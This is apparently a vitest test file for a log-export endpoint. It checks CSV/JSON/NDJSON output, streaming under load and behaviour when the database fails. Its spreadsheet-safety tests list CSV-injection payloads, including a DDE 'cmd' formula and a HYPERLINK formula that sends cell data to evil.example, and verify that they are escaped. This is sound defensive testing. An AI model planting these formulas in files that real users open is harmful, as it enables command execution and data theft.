/** The log as files: complete, correct, harmless to a spreadsheet, in constant memory, and cut visibly when it fails. */
import { connect } from 'node:net';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { readFilter } from '../src/filter.ts';
import { formats } from '../src/formats.ts';
import { openPostgres } from '../src/runtime/postgres.ts';
import type { Entry } from '../src/schema.ts';
import { createStore } from '../src/store.ts';
import { streamOf } from '../src/stream.ts';
import {
  credentials,
  databases,
  eventually,
  freshDatabase,
  sqlClient,
  startService,
  type TestService,
} from './harness.ts';
import { proxyTo } from './proxy.ts';

type Format = keyof typeof formats;
const formatNames = Object.keys(formats) as Format[];
const base = { event_type: 'CREATE', entity_type: 'order' };

const exported = async (service: TestService, query: string) => {
  const answer = await service.request(`/api/logs/export?${query}`);
  expect(answer.status).toBe(200);
  return answer.text();
};

type Row = Record<string, string>;

/** Reads CSV as RFC 4180 has it, with PapaParse: a fault in the form fails the test. */
function readCsv(text: string): { rows: Row[]; columns: string[] } {
  const { data, errors, meta } = Papa.parse<Row>(text, {
    header: true,
    newline: '\r\n',
    delimiter: ',',
    skipEmptyLines: true,
  });
  expect(errors).toEqual([]);
  return { rows: data, columns: meta.fields ?? [] };
}

const readLines = (text: string) =>
  text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Entry);

const idsIn: Record<Format, (text: string) => number[]> = {
  csv: (text) => readCsv(text).rows.map((row) => Number(row.id)),
  json: (text) => (JSON.parse(text) as Entry[]).map(({ id }) => id),
  ndjson: (text) => readLines(text).map(({ id }) => id),
};

const inOrderOfTime = (a: Entry, b: Entry) =>
  a.timestamp === b.timestamp ? a.id - b.id : a.timestamp < b.timestamp ? -1 : 1;

/** What a spreadsheet takes for a formula (OWASP, CSV injection), bare and behind what is skipped before one. */
const formulas = [
  '=1+1',
  '=1+1\nfoo',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1)',
  '+1+1',
  '-1+2',
  '-2+3+cmd|calc!A0',
  ' =1+1',
  '   @SUM(1)',
  '\u00a0=1',
  '\u3000=1',
  ' \ufeff=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\t=1',
  '\t1',
  '\r=1',
  '\n=1',
  '\r\n=1',
  '\v=1',
  '\u2028=1',
  '|cmd',
  '%0A=1',
  '=',
  '=";=1',
];

/** What looks a little like one, and must come back as it is. */
const harmless = [
  'a=b',
  '1-1',
  '50 %',
  "it's",
  'a@b.example',
  "'",
  '"',
  '""',
  ',',
  ';',
  'a\nb',
  'a\r\nb',
  ' a ',
  '中🧾',
  '<b>',
  '\\',
];

describe.each(databases)('from %s', async (database) => {
  const service = await startService(database);
  const kept = await service.write([
    {
      ...base,
      entity_id: 'o-1',
      user_id: 'ana',
      description: 'He said "yes", twice;\r\nthen left\n',
      metadata: { 'a "key"': [1, 2.5, null, true, 'x,\ny'], __proto__x: { deep: {} } },
      ip_address: '2001:db8::1',
      user_agent: 'Mozilla/5.0 (X11; Linux) "quoted"',
      timestamp: '2024-02-29T12:00:00.123Z',
      service: 'till',
      trace_id: 't-1',
      session_id: 's-1',
      event_uid: 'uid-1',
    },
    { ...base, timestamp: '2024-02-29T12:00:00.123Z' },
    { ...base, timestamp: '2023-01-01', metadata: {} },
  ]);
  const small = 'start_date=2023-01-01&end_date=2024-12-31&';
  const ordered = kept.toSorted(inOrderOfTime);

  describe('the file', () => {
    it.each(formatNames)('%s is an attachment with a dated name and its type', async (format) => {
      const before = new Date().toISOString().slice(0, 10);
      const { headers } = await service.request(`/api/logs/export?format=${format}&limit=`);
      const disposition = headers.get('content-disposition') ?? '';
      expect(disposition).toMatch(new RegExp(`^attachment; filename="[\\w-]+\\.${format}"$`));
      expect([before, new Date().toISOString().slice(0, 10)]).toContain(/\d{4}-\d\d-\d\d/.exec(disposition)?.[0]);
      const types = { csv: 'text/csv', json: 'application/json', ndjson: 'application/x-ndjson' };
      expect(headers.get('content-type')).toContain(types[format]);
      expect(headers.get('content-type')).toContain('utf-8');
    });

    it('is CSV when nothing is said', async () => {
      expect(await exported(service, small)).toBe(await exported(service, `${small}format=csv`));
    });

    it('JSON and NDJSON hold the entries as the API gives them, in the order of time', async () => {
      expect(JSON.parse(await exported(service, `${small}format=json`))).toEqual(ordered);
      expect(readLines(await exported(service, `${small}format=ndjson`))).toEqual(ordered);
    });

    it('CSV holds every field of every entry, metadata as JSON text, nothing as an empty cell', async () => {
      const text = await exported(service, `${small}format=csv`);
      const { rows, columns } = readCsv(text);
      expect(columns.toSorted()).toEqual(Object.keys(kept[0] ?? {}).toSorted());
      expect(columns).toEqual(expect.arrayContaining(['metadata', 'created_at']));
      expect(rows).toHaveLength(ordered.length);
      for (const [i, row] of rows.entries()) {
        const { metadata, ...entry } = ordered[i] ?? kept[0] ?? ({} as Entry);
        for (const [name, value] of Object.entries(entry))
          expect(row[name], name).toBe(value === null ? '' : String(value));
        expect(row.metadata === '' ? null : JSON.parse(row.metadata ?? '')).toEqual(metadata);
      }
      // RFC 4180: CRLF ends every record, the last one too.
      expect(text.endsWith('\r\n')).toBe(true);
      expect(text.slice(0, text.indexOf('\r\n'))).toBe(columns.join(','));
    });

    it.each([
      ['csv', /^id,timestamp,[\w,]+\r\n$/],
      ['json', /^\[\s*\]\s*$/],
      ['ndjson', /^$/],
    ])('%s of nothing is whole', async (format, text) => {
      expect(await exported(service, `entity_id=nobody&format=${format}`)).toMatch(text);
    });

    it('a HEAD asks for no rows', async () => {
      const answer = await service.request('/api/logs/export', { method: 'HEAD' });
      expect(answer.status).toBe(200);
      expect(await answer.text()).toBe('');
    });
  });

  describe('a cell that a spreadsheet would run', async () => {
    const cells = ['event_type', 'entity_id', 'description', 'user_agent'] as const;
    const texts = [...formulas, ...harmless];
    await service.write(
      texts.map((text, i) => ({
        event_type: text,
        entity_type: 'order',
        entity_id: text,
        description: text,
        user_agent: text,
        user_id: `cell ${i}`,
      })),
    );
    const { rows } = readCsv(await exported(service, 'format=csv'));
    const rowOf = (i: number) => rows.find((row) => row.user_id === `cell ${i}`);

    it.each(formulas.map((text, i) => ({ text, i })))('$text is text', ({ text, i }) => {
      for (const cell of cells) expect(rowOf(i)?.[cell], cell).toBe(`'${text}`);
    });

    it.each(harmless.map((text, i) => ({ text, i: formulas.length + i })))('$text is as it was', ({ text, i }) => {
      for (const cell of cells) expect(rowOf(i)?.[cell], cell).toBe(text);
    });

    it('is as it was in JSON, which no spreadsheet runs', async () => {
      const entries = readLines(await exported(service, 'format=ndjson')).filter(({ user_id }) =>
        user_id?.startsWith('cell '),
      );
      expect(entries.map(({ description }) => description).toSorted()).toEqual(texts.toSorted());
    });
  });

  // Where an embedded database is slow to fill it is filled less: a cap would show at 10,000 too.
  const rows = database === 'pglite' ? 11_000 : 25_000;
  describe(`${rows} rows`, async () => {
    const start = Date.UTC(2020, 0, 1);
    for (let from = 0; from < rows; from += 1_000)
      await service.write(
        // Few moments, in no order: every page ends within a crowd of the same millisecond.
        Array.from({ length: 1_000 }, (_, i) => ({
          ...base,
          entity_type: 'many',
          entity_id: from + i,
          timestamp: new Date(start + (((from + i) * 7_919) % 23) * 1_000).toISOString(),
        })),
      );
    const many = (text: Format) => `entity_type=many&format=${text}`;

    it.each(formatNames)('come out complete as %s, each once', async (format) => {
      const ids = idsIn[format](await exported(service, many(format)));
      expect(ids).toHaveLength(rows);
      expect(new Set(ids).size).toBe(rows);
    });

    it('are in the order of time', async () => {
      const entries = readLines(await exported(service, many('ndjson')));
      expect(entries.toSorted(inOrderOfTime).map(({ id }) => id)).toEqual(entries.map(({ id }) => id));
    });

    it('are those that were there when it began, whatever is written while it runs', async () => {
      const answer = await service.request(`/api/logs/export?${many('ndjson')}`);
      const reader = answer.body?.pipeThrough(new TextDecoderStream()).getReader();
      if (!reader) throw new Error('no body');
      let text = (await reader.read()).value ?? '';
      // At the end of the time that it goes along, where it has not been yet.
      await service.write(
        Array(500).fill({ ...base, entity_type: 'many', timestamp: '2020-06-01', description: 'late' }),
      );
      for (let { done, value } = await reader.read(); !done; { done, value } = await reader.read()) text += value;
      const entries = readLines(text);
      expect(entries).toHaveLength(rows);
      expect(entries.filter(({ description }) => description === 'late')).toEqual([]);
    });
  });
});

describe('a slow or broken export', async () => {
  const rows = 20_000;
  const place = await freshDatabase('postgres');
  if (!('DATABASE_URL' in place)) throw new Error('not PostgreSQL');
  const sql = sqlClient(place.DATABASE_URL);
  // 2 kB a row in a column without an index.
  for (let from = 0; from < rows; from += 500)
    await sql`
      select count(*) from append_logs((
        select jsonb_agg(jsonb_build_object('event_type', 'HEAVY', 'entity_type', 'order', 'user_agent', repeat('x', 2000),
                                            'timestamp', timestamptz '2020-01-01 00:00:00+00' + n * interval '1 second'))
        from generate_series(${from}::int + 1, ${from}::int + 500) n))`;
  const proxy = await proxyTo(place.DATABASE_URL);
  const service = await startService('postgres', { place: { DATABASE_URL: proxy.url }, env: { POLL_MS_MAX: '60000' } });
  const bytes_all = rows * 2_000;

  /** Resolves when the database has sent nothing for a while; returns how much it had sent since `from`. */
  async function settled(from: number): Promise<number> {
    let last = proxy.received();
    let since = Date.now();
    await eventually('the database is left alone', () => {
      if (proxy.received() !== last) {
        last = proxy.received();
        since = Date.now();
      }
      return Date.now() - since > 400;
    });
    return last - from;
  }

  const complete = async (format: Format) => idsIn[format](await exported(service, `format=${format}`)).length;

  it('is whole when nothing breaks', async () => {
    expect(await complete('ndjson')).toBe(rows);
  });

  it('pulls a page when the reader takes one, and no more', async () => {
    const database = openPostgres(place.DATABASE_URL, 1);
    let pages = 0;
    async function* counted() {
      for await (const page of createStore(database.db).each(readFilter(new URLSearchParams()))) {
        pages += 1;
        yield page;
      }
    }
    const reader = streamOf(formats.csv.write(counted()), () => {}).getReader();
    expect(pages).toBe(0);
    for (const _ of [1, 2, 3]) await reader.read();
    expect(pages).toBeLessThanOrEqual(3);
    await reader.cancel();
    await database.close();
  });

  it('waits for a reader that reads nothing, and goes on to the end when it does', async () => {
    const { hostname, port } = new URL(service.url);
    const before = proxy.received();
    const socket = connect(Number(port), hostname);
    socket.write(
      `GET /api/logs/export?format=ndjson HTTP/1.0\r\nhost: x\r\nauthorization: ${credentials.admin}\r\n\r\n`,
    );
    socket.pause();
    await eventually('the export has begun', () => proxy.received() - before > 1_000_000);
    // What the kernel's two socket buffers hold, and a page: not the log.
    expect(await settled(before)).toBeLessThan(bytes_all / 2);
    let text = '';
    for await (const chunk of socket) text += chunk;
    expect(text.match(/"event_type":"HEAVY"/g)?.length).toBe(rows);
  });

  it('is not read on for a reader who has left', async () => {
    const leave = new AbortController();
    const answer = await service.request('/api/logs/export?format=ndjson', { signal: leave.signal });
    await answer.body?.getReader().read();
    leave.abort();
    const before = proxy.received();
    expect(await settled(before)).toBeLessThan(bytes_all / 2);
    expect((await service.request('/readyz')).status).toBe(200);
  });

  /** Reads to the end, and breaks something after the first piece; returns the text, or null when the body was cut. */
  async function readWhile(format: Format, breakIt: () => Promise<void>): Promise<string | null> {
    const answer = await service.request(`/api/logs/export?format=${format}`);
    // Broken before the first byte it may still be refused.
    if (answer.status === 503) return null;
    expect(answer.status).toBe(200);
    const reader = answer.body?.pipeThrough(new TextDecoderStream()).getReader();
    if (!reader) throw new Error('no body');
    let text = '';
    for (;;) {
      const piece = await reader.read().catch(() => null);
      if (piece === null) return null;
      if (piece.done) return text;
      if (text === '') await breakIt();
      text += piece.value;
    }
  }

  it.each(formatNames)('is cut, not ended, when the database goes away: %s', async (format) => {
    expect(await readWhile(format, proxy.close)).toBeNull();
    await proxy.open();
    await eventually('the service is ready again', async () => (await service.request('/readyz')).status === 200);
    expect(await complete(format)).toBe(rows);
  });

  it.each(formatNames)('is cut or complete when its connections are killed again and again: %s', async (format) => {
    const done = new AbortController();
    const killer = (async () => {
      let killed = 0;
      while (!done.signal.aborted) {
        const [row] = await sql<{ n: number }[]>`
          select count(pg_terminate_backend(pid))::int as n from pg_stat_activity
          where application_name = 'edgetrail' and datname = current_database()`;
        killed += row?.n ?? 0;
      }
      return killed;
    })();
    const text = await readWhile(format, async () => {}).finally(() => done.abort());
    expect(await killer).toBeGreaterThan(0);
    if (text !== null) expect(idsIn[format](text)).toHaveLength(rows);
    await eventually('the service is ready again', async () => (await service.request('/readyz')).status === 200);
  });

  it('that cannot begin is not an empty file', async () => {
    await proxy.close();
    const answer = await service.request('/api/logs/export?format=ndjson').catch(() => null);
    if (answer) {
      const text = await answer.text().catch(() => null);
      if (text !== null) expect(answer.status).toBe(503);
      expect(text ?? '').not.toMatch(/\bat .*\.ts|ECONN|select /);
    }
    await proxy.open();
    await eventually('the service is ready again', async () => (await service.request('/readyz')).status === 200);
  });
});
